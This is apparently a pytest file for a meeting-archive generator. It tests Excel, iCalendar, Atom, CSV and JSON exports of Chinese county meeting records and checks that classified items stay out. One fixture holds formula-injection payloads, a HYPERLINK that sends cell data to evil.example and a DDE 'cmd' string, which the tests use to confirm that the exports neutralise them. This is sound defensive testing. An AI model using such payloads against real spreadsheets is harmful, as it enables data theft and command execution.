"""Excel, iCalendar and Atom exports, each opened back with the library a user's software would use."""

from __future__ import annotations

import io
import xml.etree.ElementTree as ET
import zipfile
from datetime import date, datetime, timedelta

import icalendar
import openpyxl
import pytest
from generator.check import run as checking
from generator.domain.archive import Archive
from generator.core.enums import Classification
from generator.exports.feed import feed_xml
from generator.exports.ics import calendar_ics
from generator.exports.xlsx import actions_xlsx

from .conftest import build_site, dossier_text

A = """\
start: "09:00"
end: "11:30"
venue: 第一会议室
agenda:
  - topic: 研究防汛工作
actions:
  - {id: A1, task: 清理河道, unit: 县水利局, due: 2024-05-20, status: 推进中}
  - {id: A2, task: 拨付资金, unit: 县财政局, due: 2024-05-10}
  - id: A3
    task: 检查水库
    unit: 县水利局
    due: 2024-05-30
    status: 已办结
    updates: [{date: 2024-05-25, note: 检查完毕}]
  - {id: A4, task: 修缮校舍, unit: 县财政局, due: 2024-07-01}
"""
B = """\
actions:
  - {id: A1, task: 采购物资, unit: 县政府办公室, due: 2024-06-30, status: 已取消}
"""
C = """\
start: "15:00"
actions: []
"""
SECRET = """\
actions:
  - {id: A1, task: CANARYTASK, unit: 县水利局, due: 2024-05-09}
"""
ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def settings_(settings, write):  # as_of 2024-06-01
    settings.units = ["县政府办公室", "县财政局", "县水利局"]
    write("2024/a.md", dossier_text(A, title="县政府<第3次>常务会议 & 座谈"))
    write("2024/b.md", dossier_text(B, date="2024-05-27", title="第二次会议"))
    write("2024/c.md", dossier_text(C, date="2024-06-20", status="筹备", title="筹备中的会议"))
    write("2024/secret.md", dossier_text(SECRET, date="2024-05-08", classification="秘密", title="CANARYTITLE"))
    return settings


def load(settings) -> Archive:
    result = checking.check(settings)
    assert result.errors == 0, [str(d) for d in result.diagnostics]
    return Archive(result.dossiers, settings)


# ---------------------------------------------------------------------------------------------------
# Excel


def sheet_rows(ws) -> tuple[dict[str, int], list[list]]:
    """(column by header, the data rows' cells): row 1 is the title, row 2 the header."""
    header = [c.value for c in ws[2]]
    return {h: i for i, h in enumerate(header)}, [list(r) for r in ws.iter_rows(min_row=3)]


def test_xlsx_ledger_sheet(settings_) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(actions_xlsx(load(settings_))))
    assert wb.sheetnames == ["督办台账", "县政府办公室", "县财政局", "县水利局", "说明"]  # units in the site's order
    ws = wb["督办台账"]
    assert ws["A1"].value == "督办台账（截至2024年6月1日 · 读者范围：内部）" and ws.freeze_panes == "C3"
    col, rows = sheet_rows(ws)
    assert list(col)[:7] == ["序号", "状态", "逾期天数", "办理时限", "责任单位", "配合单位", "责任人"]
    assert [r[col["序号"]].value for r in rows] == [1, 2, 3, 4, 5]
    assert [r[col["督办事项"]].value for r in rows] == ["拨付资金", "清理河道", "修缮校舍", "检查水库", "采购物资"]
    first = rows[0]
    assert first[col["状态"]].value == "逾期" and first[col["逾期天数"]].value == 22
    due = first[col["办理时限"]]
    assert due.is_date and due.value == datetime(2024, 5, 10) and due.number_format == "yyyy-mm-dd"
    assert first[col["会议日期"]].is_date and first[col["会议日期"]].value == datetime(2024, 5, 6)
    assert first[col["编号键"]].value == "a#A2"
    # Overdue rows are marked: a fill on every cell but the feedback ones, the state in red; others are not.
    record = [c for c in first[:col["本次反馈"]]]
    assert {c.fill.fgColor.rgb[-6:] for c in record} == {"FFEBEE"}
    assert first[col["状态"]].font.color.rgb[-6:] == "B71C1C" and first[col["状态"]].font.b
    assert all(c.fill.fill_type is None for c in rows[2][:col["本次反馈"]])
    # The three columns a unit fills in: empty, green, 申请办结 from a list (是/否).
    assert [first[col[h]].value for h in ("本次反馈", "反馈日期", "申请办结")] == [None, None, None]
    assert first[col["本次反馈"]].fill.fgColor.rgb[-6:] == "F1F8E9"
    lists = [v for v in ws.data_validations.dataValidation if v.type == "list"]
    assert lists and lists[0].formula1 == '"是,否"'
    done = rows[3]
    assert done[col["最新反馈日期"]].is_date and done[col["最新反馈"]].value == "检查完毕"
    assert done[col["逾期天数"]].value is None and done[col["办理过程"]].value == "2024-05-25 检查完毕"


def test_xlsx_one_sheet_per_unit_with_what_it_supports(settings_, write) -> None:
    write("2024/e.md", dossier_text("actions:\n  - {id: E1, task: 联合检查, unit: 县水利局, co_units: [县财政局], due: 2024-06-05}\n",
                                    date="2024-05-28", title="第三次会议"))
    wb = openpyxl.load_workbook(io.BytesIO(actions_xlsx(load(settings_))))
    for unit in ("县政府办公室", "县财政局", "县水利局"):
        col, rows = sheet_rows(wb[unit])
        assert wb[unit]["A1"].value.startswith(f"{unit} 督办事项（含配合办理")
        assert all(unit in (r[col["责任单位"]].value, *(r[col["配合单位"]].value or "").split("、")) for r in rows)
    col, rows = sheet_rows(wb["县财政局"])
    supported = [r for r in rows if r[col["督办事项"]].value == "联合检查"]
    assert supported and str(supported[0][col["序号"]].value).endswith("配合")  # in the unit's sheet, marked 配合
    col, rows = sheet_rows(wb["县水利局"])
    assert [r[col["督办事项"]].value for r in rows] == ["清理河道", "联合检查", "检查水库"]
    notes = dict(wb["说明"].iter_rows(values_only=True, max_col=2))
    assert notes["基准日期"] == datetime(2024, 6, 1) and notes["读者范围"] == "内部" and notes["逾期"] == 2
    assert notes["临期"] == 1  # 联合检查, due 2024-06-05: within seven days of the as-of date


def test_xlsx_honours_the_audience(settings_) -> None:
    def strings(data: bytes) -> str:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())

    assert "CANARY" not in strings(actions_xlsx(load(settings_)))
    settings_.audience = Classification.SECRET
    assert "CANARYTASK" in strings(actions_xlsx(load(settings_)))


# ---------------------------------------------------------------------------------------------------
# iCalendar


def components(settings, kind: str = "VEVENT") -> dict[str, icalendar.cal.Component]:
    cal = icalendar.Calendar.from_ical(calendar_ics(load(settings)))
    assert cal["VERSION"] == "2.0" and cal["PRODID"]
    out = {str(e["SUMMARY"]): e for e in cal.walk(kind)}
    assert len(out) == len(cal.walk(kind))
    return out


def test_ics_meetings_are_events_open_actions_to_dos_with_an_alarm(settings_) -> None:
    cal = icalendar.Calendar.from_ical(calendar_ics(load(settings_)))
    assert [tz["TZID"] for tz in cal.walk("VTIMEZONE")] == ["Asia/Shanghai"]
    ev = components(settings_)
    assert sorted(ev) == ["县政府<第3次>常务会议 & 座谈", "第二次会议", "筹备中的会议"]  # the meetings, no action
    a = ev["县政府<第3次>常务会议 & 座谈"]
    start = a.decoded("DTSTART")
    assert (start.hour, start.minute, start.utcoffset()) == (9, 0, timedelta(hours=8))
    assert a.decoded("DTEND").hour == 11 and str(a["LOCATION"]) == "第一会议室"
    assert "1. 研究防汛工作" in str(a["DESCRIPTION"]) and str(a["STATUS"]) == "CONFIRMED"
    b = ev["第二次会议"]  # no start time: an all-day event
    assert b.decoded("DTSTART") == date(2024, 5, 27) and b.decoded("DTEND") == date(2024, 5, 28)
    assert str(ev["筹备中的会议"]["STATUS"]) == "TENTATIVE"
    todo = components(settings_, "VTODO")
    # Open actions only: done (检查水库) and cancelled (采购物资) are on nobody's calendar any more.
    assert sorted(todo) == ["【逾期】督办：拨付资金（县财政局）", "【逾期】督办：清理河道（县水利局）", "督办：修缮校舍（县财政局）"]
    late = todo["【逾期】督办：拨付资金（县财政局）"]
    assert late.decoded("DUE") == date(2024, 5, 10) and str(late["STATUS"]) == "NEEDS-ACTION" and int(late["PRIORITY"]) == 1
    assert str(todo["【逾期】督办：清理河道（县水利局）"]["STATUS"]) == "IN-PROCESS"
    (alarm,) = todo["督办：修缮校舍（县财政局）"].walk("VALARM")
    assert alarm.decoded("TRIGGER") == timedelta(days=-7) and alarm["TRIGGER"].params["RELATED"] == "END"
    assert str(alarm["ACTION"]) == "DISPLAY"
    assert b"CANARY" not in calendar_ics(load(settings_))


def test_ics_uids_are_stable(settings_, write) -> None:
    def uids(settings) -> dict[str, str]:
        out = {}
        for kind in ("VEVENT", "VTODO"):
            for e in components(settings, kind).values():
                out[str(e["SUMMARY"]).split("督办：")[-1]] = str(e["UID"])
        return out

    before = uids(settings_)
    assert len(set(before.values())) == len(before)
    # Another day, another meeting, an action now overdue and renamed summary: the same UIDs for the same items.
    settings_.as_of = date(2024, 6, 28)
    write("2024/d.md", dossier_text(date="2024-06-25", title="新会议"))
    after = uids(settings_)
    assert after["修缮校舍（县财政局）"] == before["修缮校舍（县财政局）"]
    for key, uid in before.items():
        assert after[key] == uid
    assert after["新会议"] not in before.values()


def test_with_site_url_every_link_is_a_full_address(settings_) -> None:
    settings_.site_url = "https://huiwu.example.gov/neibu/"
    arc = load(settings_)
    ics = icalendar.Calendar.from_ical(calendar_ics(arc))
    meeting = next(e for e in ics.walk("VEVENT") if str(e["SUMMARY"]) == "第二次会议")
    assert str(meeting["URL"]) == "https://huiwu.example.gov/neibu/meetings/2024/b/"
    assert "网站页面：https://huiwu.example.gov/neibu/meetings/2024/b/" in str(meeting["DESCRIPTION"])
    todo = ics.walk("VTODO")[0]
    assert str(todo["URL"]).startswith("https://huiwu.example.gov/neibu/meetings/2024/a/#action-")
    root = ET.fromstring(feed_xml(arc).encode("utf-8"))
    links = [link.get("href") for link in root.iter(f"{ATOM}link")]
    assert links[:2] == ["https://huiwu.example.gov/neibu/feed.xml", "https://huiwu.example.gov/neibu/"]
    assert all(h.startswith("https://huiwu.example.gov/neibu/") for h in links)


# ---------------------------------------------------------------------------------------------------
# Atom


def test_feed_is_atom_of_held_meetings(settings_) -> None:
    root = ET.fromstring(feed_xml(load(settings_)).encode("utf-8"))
    assert root.tag == f"{ATOM}feed"
    assert root.find(f"{ATOM}id").text.startswith("urn:uuid:")
    entries = root.findall(f"{ATOM}entry")
    assert [e.find(f"{ATOM}title").text for e in entries] == ["第二次会议", "县政府<第3次>常务会议 & 座谈"]  # newest first
    assert [e.find(f"{ATOM}link").get("href") for e in entries] == ["meetings/2024/b/", "meetings/2024/a/"]
    assert entries[1].find(f"{ATOM}updated").text == "2024-05-06T11:30:00+08:00"
    assert root.find(f"{ATOM}updated").text == entries[0].find(f"{ATOM}updated").text
    assert len({e.find(f"{ATOM}id").text for e in entries}) == 2
    assert "议定事项 0 项，督办事项 4 项" in entries[1].find(f"{ATOM}summary").text
    assert "CANARY" not in feed_xml(load(settings_))


def test_exports_are_in_the_built_site(tmp_path) -> None:
    folder = tmp_path / "dossiers" / "2024"
    folder.mkdir(parents=True)
    (folder / "a.md").write_text(dossier_text(A), encoding="utf-8")
    (folder / "secret.md").write_text(dossier_text(SECRET, date="2024-05-08", classification="秘密", title="CANARYTITLE"), encoding="utf-8")
    site = build_site(tmp_path)
    wb = openpyxl.load_workbook(site / "exports" / "actions.xlsx")
    assert wb["督办台账"].max_row == 2 + 4  # the title, the header and the four actions
    cal = icalendar.Calendar.from_ical((site / "exports" / "calendar.ics").read_bytes())
    assert len(cal.walk("VEVENT")) == 1 and len(cal.walk("VTODO")) == 3  # the meeting; the three open actions
    assert ET.parse(site / "feed.xml").getroot().tag == f"{ATOM}feed"
    for path in ("exports/calendar.ics", "feed.xml"):
        assert b"CANARY" not in (site / path).read_bytes()


FORMULAS = """\
organizer: 县政府办公室
actions:
  - id: "=1+1"
    task: '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    unit: "+县水利局"
    owner: "@SUM(A1:A9)"
    due: 2024-05-20
    updates: [{date: 2024-05-10, note: "-2+3"}]
  - {id: A2, task: "\\t=cmd|' /C calc'!A0", unit: "县财政局", due: 2024-05-21}
"""


def test_no_cell_of_the_workbook_is_a_formula(settings, write) -> None:
    """Every cell read back with openpyxl: text cells are strings (never a formula), dates dates,
    numbers numbers; text that starts with = + - @ is there exactly as written."""
    settings.units = ["县财政局"]
    settings.levels["unit-unknown"] = "warning"  # the hostile unit names must reach the workbook
    write("2024/a.md", dossier_text(FORMULAS, title="=cmd|' /C calc'!A0"))
    wb = openpyxl.load_workbook(io.BytesIO(actions_xlsx(load(settings))))
    types = set()
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                types.add(cell.data_type)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert types <= {"s", "n", "d"}
    for written in ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"点击")', "+县水利局", "@SUM(A1:A9)", "-2+3",
                    "=cmd|' /C calc'!A0"):
        assert written in texts, written
    with zipfile.ZipFile(io.BytesIO(actions_xlsx(load(settings)))) as zf:  # and no <f> element anywhere
        assert not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in zf.namelist() if n.endswith(".xml"))


def test_csv_cells_that_look_like_formulas_get_an_apostrophe(settings, write, capsys, tmp_path) -> None:
    import csv  # noqa: PLC0415

    from generator.domain.ledger import ledger  # noqa: PLC0415
    from generator.exports.tables import actions_csv, actions_table  # noqa: PLC0415

    write("2024/a.md", dossier_text(FORMULAS, title="=cmd|' /C calc'!A0"))
    arc = load(settings)
    site_rows = list(csv.reader(io.StringIO(actions_csv(arc).decode("utf-8-sig"))))
    cli_rows = list(csv.reader(io.StringIO(actions_table(ledger(arc), arc, "\n"))))
    for rows in (site_rows, cli_rows):
        cells = [c for row in rows[1:] for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        for written in ("=1+1", "+县水利局", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"):
            assert "'" + written in cells, written


def test_every_export_of_an_action_has_the_same_columns_in_the_same_order(settings_, capsys, monkeypatch) -> None:
    """The site CSV, the terminal's CSV and JSON, archive.json and the workbook: one record definition."""
    import csv  # noqa: PLC0415
    import json  # noqa: PLC0415

    from generator.cli.main import main  # noqa: PLC0415
    from generator.exports.records import ACTION_COLUMNS  # noqa: PLC0415
    from generator.exports.tables import actions_csv, archive_json  # noqa: PLC0415

    arc = load(settings_)
    headers = [c.header for c in ACTION_COLUMNS]
    keys = [c.key for c in ACTION_COLUMNS]
    assert "逾期天数" in headers
    site_csv = list(csv.reader(io.StringIO(actions_csv(arc).decode("utf-8-sig"))))
    wb = openpyxl.load_workbook(io.BytesIO(actions_xlsx(arc)))
    assert site_csv[0] == headers
    for ws in wb.worksheets[:-1]:  # the last sheet is the notes; row 1 the title, row 2 the header
        sheet = [c.value for c in ws[2]]
        # 序号, the record's columns in its order, then the three a unit fills in
        assert sheet == ["序号", *headers, "本次反馈", "反馈日期", "申请办结"], ws.title
    meetings = json.loads(archive_json(arc))["meetings"]
    assert all(list(a) == keys for m in meetings for a in m["actions"]) and any(m["actions"] for m in meetings)
    (settings_.dossiers_dir.parent / "mkdocs.yml").write_text(
        "site_name: x\ndocs_dir: dossiers\nplugins:\n  - meeting-archive:\n      units: [县政府办公室, 县财政局, 县水利局]\n",
        encoding="utf-8")
    monkeypatch.chdir(settings_.dossiers_dir.parent)
    assert main(["actions", "--as-of", "2024-06-01", "--format", "csv"]) == 0
    assert next(csv.reader(io.StringIO(capsys.readouterr().out))) == headers
    assert main(["actions", "--as-of", "2024-06-01", "--format", "json"]) == 0
    assert all(list(a) == keys for a in json.loads(capsys.readouterr().out)["actions"])


def test_archive_json_holds_a_meeting_field_by_field(settings, write) -> None:
    """Every meeting-level field of archive.json, its value as written in the dossier (enumerations in
    their English spelling, dates and times ISO), in the order the record defines; empty ones null or []."""
    import json  # noqa: PLC0415

    from generator.exports.tables import archive_json  # noqa: PLC0415

    write("2024/2024-05-06-changwu.md", dossier_text("""\
        start: 9:30
        end: "11:30"
        venue: 县政府第一会议室
        organizer: 县政府办公室
        tags: [防汛, 安全生产]
        attendees:
          - {name: 张三, unit: 县水利局, role: 出席, rsvp: 确认, signed_in: 是}
          - {name: 李四, unit: 县财政局, role: 列席, rsvp: 代会, substitute: 王五, signed_in: false}
        decisions:
          - {id: D1, text: 汛前完成河道清障}
        documents:
          - {id: W1, title: 防汛预案, copies: 30, disposition: 清退, returned: 30, returned_on: 2024-05-07,
             copy_numbers: 001-030, recipients: [县水利局]}
          - {id: W2, title: 密件, classification: 秘密, copies: 5, disposition: 销毁, destroyed: 5,
             destroyed_on: 2024-05-08, witness: 赵六}
        devices: {collected: 2, returned: 2}
        doc_no: 〔2024〕7号
        spot_checks:
          - {time: "10:30", present: 1, absent: [李四], note: 接电话}
        lessons:
          - {category: 会场保障, type: 不足, text: 话筒电量不足}
        """, classification="秘密", status="已办结"))
    write("2024/2024-05-07-public.md", dossier_text())
    settings.audience = Classification.SECRET
    data = json.loads(archive_json(Archive(checking.check(settings).dossiers, settings)))
    assert [x["id"] for x in data["meetings"]] == ["2024-05-07-public", "2024-05-06-changwu"]  # newest first
    other, m = data["meetings"]
    assert list(m) == ["id", "title", "kind", "date", "start", "end", "venue", "organizer", "chair", "recorder",
                       "doc_no", "status", "classification", "tags", "url", "attendees", "spot_checks", "devices",
                       "rehearsal", "decisions", "actions", "documents", "lessons"]
    assert m["id"] == "2024-05-06-changwu" and m["title"] == "县政府第3次常务会议" and m["kind"] == "常务会议"
    assert (m["date"], m["start"], m["end"]) == ("2024-05-06", "09:30", "11:30")
    assert (m["venue"], m["organizer"]) == ("县政府第一会议室", "县政府办公室")
    assert (m["status"], m["classification"], m["tags"]) == ("closed", "secret", ["防汛", "安全生产"])
    assert m["url"] == "meetings/2024/2024-05-06-changwu/"
    assert (m["chair"], m["recorder"], m["doc_no"]) == (None, None, "〔2024〕7号")
    assert m["spot_checks"] == [{"time": "10:30", "present": 1, "absent": ["李四"], "note": "接电话"}]
    assert m["devices"] == {"collected": 2, "returned": 2, "keeper": None, "note": None}
    assert m["rehearsal"] is None
    assert m["attendees"] == [
        {"name": "张三", "unit": "县水利局", "role": "member", "rsvp": "confirmed", "substitute": None, "signed_in": True},
        {"name": "李四", "unit": "县财政局", "role": "observer", "rsvp": "substitute", "substitute": "王五",
         "signed_in": False},
    ]
    assert m["decisions"] == [{"id": "D1", "text": "汛前完成河道清障"}] and m["actions"] == []
    assert m["documents"] == [
        {"id": "W1", "title": "防汛预案", "classification": "secret", "copies": 30, "disposition": "recall",
         "returned": 30, "destroyed": None, "archive_ref": None, "copy_numbers": "001-030", "recipients": ["县水利局"],
         "returned_on": "2024-05-07", "destroyed_on": None, "witness": None, "settled": True},
        {"id": "W2", "title": "密件", "classification": "secret", "copies": 5, "disposition": "destroy",
         "returned": None, "destroyed": 5, "archive_ref": None, "copy_numbers": None, "recipients": [],
         "returned_on": None, "destroyed_on": "2024-05-08", "witness": "赵六", "settled": True},
    ]
    assert m["lessons"] == [{"category": "会场保障", "type": "improve", "text": "话筒电量不足"}]
    # The other meeting: the fields it leaves out are null or empty, never missing.
    assert list(other) == list(m) and other["start"] is None and other["tags"] == [] and other["attendees"] == []


def test_archive_json_is_what_one_json_dumps_writes(settings_) -> None:
    """Written a meeting at a time (exports/tables.py), the file is byte for byte what json.dumps of the
    whole archive writes, and so is the file of an archive with no meeting."""
    import json  # noqa: PLC0415
    from collections import defaultdict  # noqa: PLC0415

    from generator.domain.ledger import ledger  # noqa: PLC0415
    from generator.exports.records import meeting_record  # noqa: PLC0415
    from generator.exports.tables import archive_json  # noqa: PLC0415

    def whole(arc: Archive) -> bytes:
        rows = defaultdict(list)
        for row in sorted(ledger(arc), key=lambda r: r.view.index):
            rows[row.view.dossier.id].append(row)
        data = {"as_of": arc.as_of.isoformat(), "audience": arc.audience.value,
                "meetings": [meeting_record(d, arc, rows.get(d.id, [])) for d in arc.visible]}
        return json.dumps(data, ensure_ascii=False, indent=1).encode("utf-8")

    arc = load(settings_)
    assert len(arc.visible) == 3 and any(m["actions"] for m in json.loads(archive_json(arc))["meetings"])
    assert archive_json(arc) == whole(arc)
    empty = Archive([], arc.settings)
    assert archive_json(empty) == whole(empty) and json.loads(archive_json(empty))["meetings"] == []


def test_the_workbooks_working_files_stay_private_and_go(settings_, tmp_path) -> None:
    """The workbook is written a row at a time through files of XlsxWriter's own: they hold what the
    dossiers hold, so they are made in the private cache folder (0700) and none is left there after."""
    import stat  # noqa: PLC0415

    archive = load(settings_)
    archive.settings.cache_dir = tmp_path / "cache"  # not there yet: the workbook makes it
    data = actions_xlsx(archive)
    assert stat.S_IMODE(archive.settings.cache_dir.stat().st_mode) == 0o700
    assert list(archive.settings.cache_dir.iterdir()) == []
    wb = openpyxl.load_workbook(io.BytesIO(data))  # and the workbook reads back whole
    assert "督办台账" in wb.sheetnames and wb["督办台账"].max_row > 2
